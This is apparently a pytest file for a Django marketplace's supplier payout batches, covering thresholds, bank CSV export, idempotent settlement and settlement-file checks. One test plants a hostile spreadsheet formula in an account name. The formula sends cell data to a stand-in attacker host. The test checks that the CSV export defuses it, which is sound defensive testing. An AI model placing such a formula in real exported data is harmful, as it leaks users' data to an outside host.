"""Payout batches: threshold, CSV per rail, settle by hand or from a file, twice changes nothing."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from marketplace.workflow import TransitionError
from orders.ledger.book import supplier_balances
from orders.ledger.payouts import (
    SettlementFileError,
    create_payout_batch,
    export_csv,
    settle_batch,
    settle_from_file,
)
from orders.ledger.reconcile import ledger_problems
from orders.models import PayoutAccount, PayoutBatch

pytestmark = pytest.mark.django_db


def test_a_batch_takes_suppliers_above_the_threshold_with_payout_details(
    released, iban_account, operator, supplier
):
    batch = create_payout_batch(currency="USD", actor=operator)

    item = batch.items.get()
    assert item.amount == Decimal("118.75")
    balances = supplier_balances(supplier)["USD"]
    assert balances["available"].amount == 0
    assert balances["in_transit"].amount == Decimal("118.75")


def test_a_supplier_below_the_threshold_is_left_out(released, iban_account, operator, settings):
    settings.PAYOUT_THRESHOLD = "200.00"

    assert create_payout_batch(currency="USD", actor=operator) is None


def test_a_supplier_without_payout_details_is_left_out(released, operator):
    assert create_payout_batch(currency="USD", actor=operator) is None


def test_the_same_money_is_never_batched_twice(released, iban_account, operator):
    create_payout_batch(currency="USD", actor=operator)

    assert create_payout_batch(currency="USD", actor=operator) is None


def test_only_operators_create_batches(released, iban_account, artisan):
    with pytest.raises(TransitionError):
        create_payout_batch(currency="USD", actor=artisan)


def test_the_bank_csv_lists_iban_and_amount(released, iban_account, operator):
    batch = create_payout_batch(currency="USD", actor=operator)

    rows = list(csv.reader(io.StringIO(export_csv(batch, "bank"))))

    assert rows[0] == ["reference", "account_name", "iban", "amount", "currency"]
    assert rows[1][1:] == ["Workshop", "PK36SCBL0000001123456702", "118.75", "USD"]
    assert export_csv(batch, "jazzcash").count("\n") == 1  # header only


def test_the_payout_csv_neutralises_an_account_name_written_as_a_spreadsheet_formula(
    released, operator, supplier
):
    PayoutAccount.objects.create(
        supplier=supplier,
        rail="bank",
        account_name='=HYPERLINK("https://evil.example/?d="&A1,"Workshop")',
        iban="PK36SCBL0000001123456702",
    )
    batch = create_payout_batch(currency="USD", actor=operator)

    rows = list(csv.reader(io.StringIO(export_csv(batch, "bank"))))

    # A leading apostrophe makes Excel and LibreOffice show the text instead of running it.
    assert rows[1][1] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Workshop")'
    assert rows[1][3] == "118.75"  # the amount stays a plain number


def test_settling_twice_changes_nothing(released, iban_account, operator, supplier):
    batch = create_payout_batch(currency="USD", actor=operator)

    assert settle_batch(batch, operator) == 1
    assert settle_batch(batch, operator) == 0

    batch.refresh_from_db()
    assert batch.state == PayoutBatch.State.SETTLED
    assert supplier_balances(supplier)["USD"]["paid_out"].amount == Decimal("118.75")
    assert ledger_problems() == []


def test_a_settlement_file_settles_the_paid_rows(released, iban_account, operator, supplier):
    batch = create_payout_batch(currency="USD", actor=operator)
    item = batch.items.get()
    content = f"reference,status\n{item.reference},paid\n".encode()

    assert settle_from_file(batch, SimpleUploadedFile("s.csv", content), operator) == 1
    assert settle_from_file(batch, SimpleUploadedFile("s.csv", content), operator) == 0
    assert supplier_balances(supplier)["USD"]["paid_out"].amount == Decimal("118.75")


def test_a_settlement_file_with_a_foreign_reference_is_refused_whole(released, iban_account, operator):
    batch = create_payout_batch(currency="USD", actor=operator)
    item = batch.items.get()
    content = f"reference,status\n{item.reference},paid\nPAYOUT-999-1,paid\n".encode()

    with pytest.raises(SettlementFileError):
        settle_from_file(batch, SimpleUploadedFile("s.csv", content), operator)
    item.refresh_from_db()
    assert item.state == "pending"


def test_a_jazzcash_account_needs_a_mobile_number(client_for, artisan, supplier):
    response = client_for(artisan).post(
        f"/sell/balance/{supplier.pk}/payout-account/", {"rail": "jazzcash", "account_name": "Amina"}
    )

    assert response.status_code == 200
    assert "mobile number" in response.content.decode()
    assert not PayoutAccount.objects.exists()
